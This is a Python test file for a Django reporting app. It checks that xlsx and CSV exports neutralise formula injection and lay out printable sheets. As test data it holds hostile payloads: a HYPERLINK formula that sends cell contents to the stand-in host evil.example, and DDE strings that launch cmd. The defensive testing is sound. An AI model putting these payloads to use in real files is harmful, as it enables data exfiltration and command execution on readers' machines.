"""Text that people type never becomes a live formula in a download: every export writes it as text.

A title such as =HYPERLINK("http://evil.example/steal?d="&B2,"点击查看") would otherwise run in the reader's
spreadsheet program and send the neighbouring cells away.
"""

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from activities.models import Status
from colleges.models import BrandProject, College
from core.xlsx import BODY_PT, FONT_NAME, MIN_PRINTED_PT, TableSheet, csv_field, csv_row, inert_cell, new_workbook
from dashboard import exports
from scoring import assessments, schemes

from ..conftest import make_report

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&B2,"点击查看")'


def cells_with(workbook, text):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def test_a_hostile_report_title_is_text_in_the_report_download(users, college_a, as_user):
    make_report(college_a, users["sec1"], title=HOSTILE)
    response = as_user("staff").get(reverse("activities:export"))
    workbook = load_workbook(io.BytesIO(response.content))
    [cell] = cells_with(workbook, HOSTILE)
    assert cell.data_type == "s"


def test_the_annual_workbook_keeps_a_hostile_brand_project_title_and_review_comment_as_text(
    plan, users, college_a, college_b
):
    BrandProject.objects.filter(college=college_a).update(title="+cmd|' /C calc'!A0")
    scheme = schemes.load_scheme_file()[0]
    assessment = assessments.find_assessment(college_a, scheme)
    score = assessments.scores_of(assessment)[0]
    comment = assessments.ScoreInput(score.indicator.max_points, HOSTILE)
    assessments.save_scores(assessment, users["staff"], "final_score", {score.pk: comment})
    make_report(college_a, users["sec1"], status=Status.APPROVED, title="@SUM(1+1)*cmd|' /C calc'!A0")

    workbook = load_workbook(io.BytesIO(exports.build_workbook(2022)))

    for text in [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]:
        found = cells_with(workbook, text)
        assert found, text
        assert {cell.data_type for cell in found} == {"s"}, text
    # Not one formula anywhere in the workbook.
    assert not [c for s in workbook.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_the_scoring_report_csv_neutralises_a_hostile_college_name(db):
    schemes.load_scheme_file()
    College.objects.create(code="evil", name=HOSTILE, short_name="x", order=1)
    out = io.StringIO()
    call_command("scoring_report", year=2022, format="csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][:2] == ["evil", "'" + HOSTILE]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 510 8123", "'+86 510 8123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("机械技术学院", "机械技术学院"),
        ("a=b", "a=b"),
        (None, ""),
        (D("-1.5"), D("-1.5")),
        (3, 3),
        (True, True),
    ],
)
def test_csv_fields_that_would_start_a_formula_get_a_leading_quote(value, written):
    assert csv_field(value) == written
    assert csv_row([value]) == [written]


def test_cells_keep_their_type_and_text_is_never_a_formula_or_an_error_value():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    aware = datetime.datetime(2022, 5, 4, 1, 30, tzinfo=datetime.UTC)
    sheet.append(
        [
            inert_cell(sheet, "=1+1"),
            inert_cell(sheet, "#N/A"),
            inert_cell(sheet, "铃\x07声"),
            inert_cell(sheet, D("12.5")),
            inert_cell(sheet, datetime.date(2022, 5, 4)),
            inert_cell(sheet, aware),
        ]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in row[:3]] == [("=1+1", "s"), ("#N/A", "s"), ("铃声", "s")]
    assert (row[3].value, row[3].data_type) == (12.5, "n")
    assert row[4].value == datetime.datetime(2022, 5, 4)
    assert row[5].value == datetime.datetime(2022, 5, 4, 9, 30)  # Beijing time, without a zone


def test_a_table_sheet_has_a_bold_frozen_filtered_header_and_prints_landscape_to_the_width():
    workbook = new_workbook()
    table = TableSheet(workbook, "表", [("学院", 20), ("得分", 8)], book_title="2022 年表")
    table.append(["机械技术学院", 90])
    table.append(["控制技术学院", 80])
    table.append_below(["合计", 170])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(buffer)["表"]
    assert sheet["A1"].font.b and sheet["A1"].value == "学院"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"  # the table, not the total below it
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.center.text == "2022 年表"


def test_a_table_too_wide_for_a_page_at_8_pt_flows_across_pages_with_its_key_columns_and_a_title_row():
    workbook = new_workbook()
    columns = [("学院", 20), ("标题", 30), *((f"列{n}", 30) for n in range(5))]
    table = TableSheet(workbook, "表", columns, book_title="2022 年宽表 &\x07 附表", title_row=True, key_columns=2)
    table.append(["机械技术学院", "一行放不下的很长很长很长很长很长很长很长很长的标题", *range(5)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(buffer)["表"]
    assert sheet["A1"].value == "2022 年宽表 & 附表" and sheet["A2"].value == "学院"
    assert sheet.oddHeader.center.text == "2022 年宽表 && 附表"  # & starts a code in a page header
    assert not sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.scale * BODY_PT / 100 >= MIN_PRINTED_PT
    assert sheet.print_title_cols == "$A:$B" and sheet.print_title_rows == "$2:$2"
    assert sheet.freeze_panes == "C3"
    assert sheet.auto_filter.ref == "A2:G3"
    assert sheet.row_dimensions[3].height >= 2 * BODY_PT  # the title wraps to two lines in its column
    assert sheet["B3"].alignment.wrap_text and sheet["B3"].font.name == FONT_NAME
